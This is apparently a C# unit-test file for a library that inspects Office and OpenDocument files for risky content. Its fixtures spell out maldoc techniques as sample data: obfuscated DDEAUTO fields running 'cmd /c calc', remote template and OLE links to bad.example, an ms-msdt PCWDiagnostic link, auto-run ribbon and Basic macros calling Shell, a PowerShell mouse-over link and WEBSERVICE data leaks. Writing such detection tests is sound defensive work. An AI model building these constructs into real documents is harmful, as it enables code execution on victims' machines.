using System.Text;

namespace Bezel.Documents.Tests;

public class OoxmlTests
{
    private const string Office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
    private const string Strict = "http://purl.oclc.org/ooxml/officeDocument/relationships/";

    private static DocumentInspection Inspect(byte[] content) => DocumentInspection.Inspect("x", null, content);

    private static string[] Details(DocumentInspection seen, FactKind kind, string where = "") => [.. seen.Facts.Where(f => f.Kind == kind && f.Where == where).Select(f => f.Detail)];

    private static (string, string) Rels(string part, params (string Type, string Target, bool External)[] relations) => (part, "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">" +
        string.Concat(relations.Select((r, i) => $"<Relationship Id=\"q{i}\" Type=\"{r.Type}\" Target=\"{r.Target}\"{(r.External ? " TargetMode=\"External\"" : "")}/>")) + "</Relationships>");

    private static byte[] With(byte[] zip, params (string Name, byte[] Content)[] more)
    {
        using var bytes = new MemoryStream();
        bytes.Write(zip);
        using (var archive = new System.IO.Compression.ZipArchive(bytes, System.IO.Compression.ZipArchiveMode.Update, leaveOpen: true))
        {
            foreach ((string name, byte[] content) in more)
            {
                archive.GetEntry(name)?.Delete();
                using Stream entry = archive.CreateEntry(name).Open();
                entry.Write(content);
            }
        }
        return bytes.ToArray();
    }

    private static byte[] With(byte[] zip, params (string Name, string Content)[] more) => With(zip, [.. more.Select(m => (m.Name, Encoding.UTF8.GetBytes(m.Content)))]);

    [Theory]
    [InlineData(Office + "attachedTemplate", "https://bad.example/t.dotm", FactKind.ExternalTemplate)]
    [InlineData(Strict + "attachedTemplate", "\\\\bad.example\\s\\t.dotm", FactKind.ExternalTemplate)]
    [InlineData(Office + "oleObject", "mhtml:https://bad.example/x.html!x-usc:https://bad.example/x.html", FactKind.ExternalContent)]
    [InlineData(Office + "frame", "https://bad.example/f", FactKind.ExternalContent)]
    [InlineData(Office + "image", "file://bad.example/p.png", FactKind.ExternalContent)]
    [InlineData(Office + "subDocument", "https://bad.example/s.docx", FactKind.ExternalContent)]
    [InlineData(Office + "hyperlink", "ms-msdt:/id PCWDiagnostic", FactKind.ExternalContent)]
    public void Says_what_is_loaded_from_elsewhere(string type, string target, FactKind kind)
    {
        DocumentInspection seen = Inspect(With(SampleFiles.Docx(""), Rels("word/_rels/settings.xml.rels", (type, target, true))));
        seen.Facts.ShouldBe([new DocumentFact(kind, target, "")]);
        seen.Links.ShouldContain(target);
        // Whatever it says of its mode.
        Inspect(With(SampleFiles.Docx(""), Rels("word/_rels/settings.xml.rels", (type, target, false)))).Facts.ShouldBe([new DocumentFact(kind, target, "")]);
    }

    [Theory]
    [InlineData(Office + "hyperlink", "https://shop.example/")]
    [InlineData(Office + "hyperlink", "javascript:void(0)")]
    [InlineData(Office + "attachedTemplate", "file:///C:\\Users\\ana\\Templates\\Letter.dotx")]
    [InlineData(Office + "externalLinkPath", "Book2.xlsx")]
    [InlineData(Office + "image", "file:///C:/Pictures/p.png")]
    public void Is_silent_about_what_leads_nowhere_or_only_on_a_click(string type, string target) =>
        Inspect(With(SampleFiles.Docx(""), Rels("word/_rels/settings.xml.rels", (type, target, true)))).Facts.ShouldBeEmpty();

    private static string Field(params string[] pieces) => "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>" + string.Concat(pieces.Select(p => p.StartsWith('<') ? p : $"<w:r><w:instrText>{p}</w:instrText></w:r>")) +
        "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>result</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>";

    private static string Inner(string code) => $"<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>{code}</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r>";

    [Fact]
    public void Says_what_command_a_field_starts()
    {
        foreach (string body in (string[])
        [
            Field("DDEAUTO cmd \"/c calc\""), Field("DD", "EA", "UTO cmd ", "\"/c calc\""), Field(Inner("QUOTE 68 68 69 65 85 84 79"), " cmd \"/c calc\""), Field(Inner("QUOTE 0x44 0x44 0x45"), " cmd \"/c calc\""),
            Field(Inner("SET x \"cmd\"")) + Field("DDE ", Inner("REF x"), " \"/c calc\""), "<w:p><w:fldSimple w:instr=\"ddeauto cmd &quot;/c calc&quot;\"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>",
            "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>DDE cmd \"/c calc\"</w:instrText></w:r></w:p>",
        ])
        {
            Details(Inspect(SampleFiles.Docx(body)), FactKind.DynamicDataExchange).ShouldBe(["cmd /c calc"], body);
        }
        Inspect(SampleFiles.Docx(Field("PAGE") + Field("DATE \\@ \"d\"") + Field("REF DDE") + SampleFiles.Paragraph("DDEAUTO cmd"))).Facts.ShouldBeEmpty();
        Inspect(SampleFiles.Docx(Field("DDEAUTO cmd") + SampleFiles.Paragraph("next"))).Text.ShouldBe("result\nnext\n");
    }

    [Fact]
    public void Finds_fields_after_more_text_than_is_kept()
    {
        byte[] document = SampleFiles.Docx(SampleFiles.Paragraph(new string('a', 2_000)) + Field("DDEAUTO cmd"));
        DocumentInspection.Inspect(null, null, document, new DocumentLimits { MaxTextChars = 100 }).Has(FactKind.DynamicDataExchange).ShouldBeTrue();
    }

    [Fact]
    public void Opens_what_a_document_embeds()
    {
        byte[] inner = SampleFiles.Xlsx("<row><c t=\"inlineStr\"><is><t>inner cell</t></is></c></row>");
        DocumentInspection seen = Inspect(With(SampleFiles.Docx(SampleFiles.Paragraph("outer")), ("word/embeddings/Sheet1.xlsx", inner)));
        Details(seen, FactKind.EmbeddedFile).ShouldBe(["Sheet1.xlsx"]);
        seen.Files.ShouldContain(f => f.Name == "Sheet1.xlsx" && f.Type == FileType.Xlsx);
        seen.Entries.Single(e => e.Name == "word/embeddings/Sheet1.xlsx").FileType.ShouldBe(FileType.Xlsx);
        seen.Text.ShouldContain("inner cell");
    }

    [Fact]
    public void Opens_alternative_content_and_parts_that_are_no_parts()
    {
        (string name, string relations) = Rels("word/_rels/document.xml.rels", (Office + "aFChunk", "afchunk.rtf", false));
        DocumentInspection seen = Inspect(With(SampleFiles.Docx(""), ((string, byte[])[])[(name, Encoding.UTF8.GetBytes(relations)), ("word/afchunk.rtf", "{\\rtf1{\\field{\\*\\fldinst DDEAUTO cmd x}}}"u8.ToArray()), ("word/other.dat", [.. "MZ"u8, .. new byte[100]])]));
        Details(seen, FactKind.DynamicDataExchange, "afchunk.rtf").ShouldBe(["cmd x"]);
        seen.Files.ShouldContain(f => f.Name == "other.dat" && f.Type == FileType.Executable);
    }

    [Fact]
    public void Names_controls_by_their_class()
    {
        string control = "<ax:ocx ax:classid=\"{8BD21D10-EC42-11CE-9E0D-00AA006002F3}\" ax:persistence=\"persistStreamInit\" xmlns:ax=\"http://schemas.microsoft.com/office/2006/activeX\"/>";
        Details(Inspect(With(SampleFiles.Docx(""), ("word/activeX/activeX1.xml", control))), FactKind.ActiveX).ShouldBe(["{8BD21D10-EC42-11CE-9E0D-00AA006002F3}"]);
    }

    [Fact]
    public void Says_what_a_ribbon_starts()
    {
        Details(Inspect(With(SampleFiles.Docx(""), ("customUI/customUI.xml", "<customUI onLoad=\"Evil\" xmlns=\"http://schemas.microsoft.com/office/2006/01/customui\"/>"))), FactKind.MacroRunsByItself).ShouldBe(["onLoad Evil"]);
        Inspect(With(SampleFiles.Docx(""), ("customUI/customUI.xml", "<customUI xmlns=\"http://schemas.microsoft.com/office/2006/01/customui\"/>"))).Facts.ShouldBeEmpty();
    }

    [Fact]
    public void Says_what_a_workbook_starts_and_fetches()
    {
        byte[] book = With(SampleFiles.Xlsx("<row><c><f>[1]!cmd</f><v>1</v></c><c><f>WEBSERVICE(\"https://track.example/?\"&amp;A1)</f><v>1</v></c><c><f>HYPERLINK(\"https://pay.example/\",\"pay\")</f><v>pay</v></c></row>"),
            ("xl/externalLinks/externalLink1.xml", "<externalLink><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>"),
            ("xl/connections.xml", "<connections><connection id=\"1\"><webPr url=\"https://data.example/q\"/></connection><connection id=\"2\"><dbPr connection=\"Provider=SQLOLEDB;Data Source=db.example\" command=\"x\"/></connection></connections>"));
        DocumentInspection seen = Inspect(book);
        Details(seen, FactKind.DynamicDataExchange).ShouldBe(["cmd|/c calc"]);
        Details(seen, FactKind.FetchesFile).ShouldBe(["WEBSERVICE(\"https://track.example/?\"&A1)"]);
        Details(seen, FactKind.ExternalContent).ShouldBe(["https://data.example/q", "Provider=SQLOLEDB;Data Source=db.example x"]);
        seen.Links.ShouldBe(["https://track.example/?", "https://pay.example/", "https://data.example/q"], ignoreOrder: true);
        Details(Inspect(SampleFiles.Xlsx("<row><c><f>cmd|'/c calc'!A1</f></c></row>")), FactKind.DynamicDataExchange).ShouldBe(["cmd|'/c calc'!A1"]);
        Inspect(SampleFiles.Xlsx("<row><c><f>IF(A1=\"a|b!\",SUM(B1:B2),\"WEBSERVICE(\")</f></c><c><f>RECALL(1)</f></c></row>")).Facts.ShouldBeEmpty();
    }

    [Fact]
    public void Reads_the_links_of_a_binary_workbook()
    {
        byte[] Wide(string text) => [.. BitConverter.GetBytes(text.Length), .. Encoding.Unicode.GetBytes(text)];
        byte[] record = [1, 0, .. Wide("cmd"), .. Wide("/c calc")];
        byte[] part = [0x80 | (360 & 0x7F), 360 >> 7, (byte)record.Length, .. record];
        byte[] book = SampleFiles.Zip(("[Content_Types].xml", Encoding.UTF8.GetBytes("<Types><Override ContentType=\"application/vnd.ms-excel.sheet.binary.macroEnabled.main\"/></Types>")), ("xl/workbook.bin", [0]), ("xl/externalLinks/externalLink1.bin", part));
        Details(Inspect(book), FactKind.DynamicDataExchange).ShouldBe(["cmd|/c calc"]);
    }

    [Fact]
    public void Reads_where_queries_of_a_workbook_fetch_from()
    {
        byte[] package = SampleFiles.Zip(("Formulas/Section1.m", "section Section1; shared Q = Web.Contents(\"https://bad.example/data\"); shared R = \"plain\";"));
        byte[] mashup = [0, 0, 0, 0, .. BitConverter.GetBytes(package.Length), .. package, 0, 0, 0, 0];
        DocumentInspection seen = Inspect(With(SampleFiles.Xlsx(""), ("customXml/item1.xml", "<DataMashup xmlns=\"http://schemas.microsoft.com/DataMashup\">" + Convert.ToBase64String(mashup) + "</DataMashup>")));
        Details(seen, FactKind.ExternalContent).ShouldBe(["https://bad.example/data"]);
    }

    [Fact]
    public void Names_hidden_sheets()
    {
        byte[] book = With(SampleFiles.Xlsx(""), ("xl/workbook.xml", "<workbook><sheets><sheet name=\"Shown\"/><sheet name=\"Prices\" state=\"hidden\"/><sheet name=\"Codes\" state=\"veryHidden\"/></sheets></workbook>"));
        Details(Inspect(book), FactKind.HiddenSheet).ShouldBe(["Prices", "Codes (very hidden)"]);
    }

    [Fact]
    public void Says_what_a_slide_does_when_the_mouse_passes()
    {
        string slide = "<p:sld xmlns:p=\"p\" xmlns:a=\"a\" xmlns:r=\"r\"><a:t>Slide text</a:t><a:hlinkHover r:id=\"q0\" action=\"ppaction://program\"/><a:hlinkClick r:id=\"q1\"/><p:cmd type=\"verb\" cmd=\"0\"/></p:sld>";
        byte[] show = SampleFiles.Zip(("[Content_Types].xml", "<Types><Override ContentType=\"application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml\"/></Types>"), ("ppt/slides/slide1.xml", slide),
            Rels("ppt/slides/_rels/slide1.xml.rels", (Office + "hyperlink", "powershell%20-c%20x", true), (Office + "hyperlink", "https://shop.example/", true)));
        DocumentInspection seen = Inspect(show);
        seen.Facts.ShouldBe([new DocumentFact(FactKind.StartsProgram, "when the mouse passes over: powershell%20-c%20x", ""), new DocumentFact(FactKind.ObjectRunsByItself, "animation, verb 0", "")]);
        seen.Text.ShouldContain("Slide text");
    }

    [Fact]
    public void Reads_flat_packages_and_the_XML_of_2003()
    {
        byte[] package = SampleFiles.Zip(("a.txt", "inside the object"));
        string flat = "<?xml version=\"1.0\"?><?mso-application progid=\"Word.Document\"?><pkg:package xmlns:pkg=\"http://schemas.microsoft.com/office/2006/xmlPackage\"><pkg:part pkg:name=\"/word/_rels/document.xml.rels\"><pkg:xmlData>" +
            Rels("", (Office + "oleObject", "https://bad.example/o", true)).Item2 + "</pkg:xmlData></pkg:part><pkg:part pkg:name=\"/word/embeddings/o.zip\"><pkg:binaryData>" + Convert.ToBase64String(package, Base64FormattingOptions.InsertLineBreaks) + "</pkg:binaryData></pkg:part></pkg:package>";
        DocumentInspection seen = Inspect(Encoding.UTF8.GetBytes(flat));
        Details(seen, FactKind.ExternalContent).ShouldBe(["https://bad.example/o"]);
        seen.Text.ShouldContain("inside the object");
        string word = "<?xml version=\"1.0\"?><?mso-application progid=\"Word.Document\"?><w:wordDocument xmlns:w=\"http://schemas.microsoft.com/office/word/2003/wordml\"><w:body><w:p>" + Field("DDEAUTO ", "cmd x") + "</w:p></w:body></w:wordDocument>";
        Details(Inspect(Encoding.UTF8.GetBytes(word)), FactKind.DynamicDataExchange).ShouldBe(["cmd x"]);
        using var packed = new MemoryStream();
        using (var zlib = new System.IO.Compression.ZLibStream(packed, System.IO.Compression.CompressionLevel.Optimal, leaveOpen: true))
            zlib.Write(SampleFiles.CompoundFile("WordDocument"));
        byte[] objects = new CompoundBuilder().Stream("_1234", [0, 8, 0, 0, .. packed.ToArray()]).Build();
        DocumentInspection carried = Inspect(Encoding.UTF8.GetBytes(word.Replace("<w:body>", "<w:docOleData><w:binData w:name=\"oledata.mso\">" + Convert.ToBase64String(objects) + "</w:binData></w:docOleData><w:body>")));
        carried.Files.ShouldContain(f => f.Name == "_1234" && f.Type == FileType.Doc);
        string excel = "<?xml version=\"1.0\"?><?mso-application progid=\"Excel.Sheet\"?><Workbook xmlns=\"urn:schemas-microsoft-com:office:spreadsheet\"><ExcelWorkbook><SupBook><Path>cmd|/c calc</Path></SupBook><SupBook><Path>C:\\b.xls</Path></SupBook></ExcelWorkbook></Workbook>";
        Details(Inspect(Encoding.UTF8.GetBytes(excel)), FactKind.DynamicDataExchange).ShouldBe(["cmd|/c calc"]);
    }

    [Fact]
    public void Says_what_an_OpenDocument_file_starts_and_loads()
    {
        const string Names = "xmlns:office=\"o\" xmlns:text=\"t\" xmlns:draw=\"d\" xmlns:script=\"s\" xmlns:xlink=\"http://www.w3.org/1999/xlink\"";
        byte[] document = SampleFiles.Zip(("mimetype", "application/vnd.oasis.opendocument.text"), ("META-INF/manifest.xml", "<manifest/>"),
            ("content.xml", $"<office:document-content {Names}><office:scripts><office:event-listeners><script:event-listener script:event-name=\"dom:load\" xlink:href=\"vnd.sun.star.script:Standard.M.Main\"/></office:event-listeners></office:scripts>" +
                "<office:body><text:p>Words <text:a xlink:href=\"https://pay.example/\">here</text:a></text:p><office:dde-source office:dde-application=\"cmd\" office:dde-topic=\"/c calc\" office:dde-item=\"x\"/><draw:image xlink:href=\"https://track.example/p.png\"/><draw:image xlink:href=\"Pictures/a.png\"/></office:body></office:document-content>"),
            ("Basic/Standard/M.xml", "<script:module xmlns:script=\"s\">Sub Main\nShell(&quot;calc.exe&quot;)\nEnd Sub</script:module>"), ("Object 1", "{\\rtf1 object text}"));
        DocumentInspection seen = Inspect(document);
        Details(seen, FactKind.Macros).ShouldBe(["Basic/Standard/M.xml"]);
        Details(seen, FactKind.MacroRunsByItself).ShouldBe(["dom:load vnd.sun.star.script:Standard.M.Main"]);
        Details(seen, FactKind.MacroStartsPrograms).ShouldBe(["Basic/Standard/M.xml: Shell(\"calc.exe\")"]);
        Details(seen, FactKind.DynamicDataExchange).ShouldBe(["cmd|/c calc!x"]);
        Details(seen, FactKind.ExternalContent).ShouldBe(["https://track.example/p.png"]);
        Details(seen, FactKind.EmbeddedFile).ShouldBe(["Object 1"]);
        seen.Text.ShouldContain("Words here");
        seen.Text.ShouldContain("object text");
        seen.Links.ShouldBe(["https://pay.example/", "https://track.example/p.png"], ignoreOrder: true);
    }

    [Fact]
    public void Is_silent_about_a_plain_invoice()
    {
        Inspect(SampleFiles.Invoice()).Facts.ShouldBeEmpty();
        Inspect(SampleFiles.Xlsx("<row><c><f>SUM(A1:A2)</f><v>3</v></c></row>")).Facts.ShouldBeEmpty();
    }
}
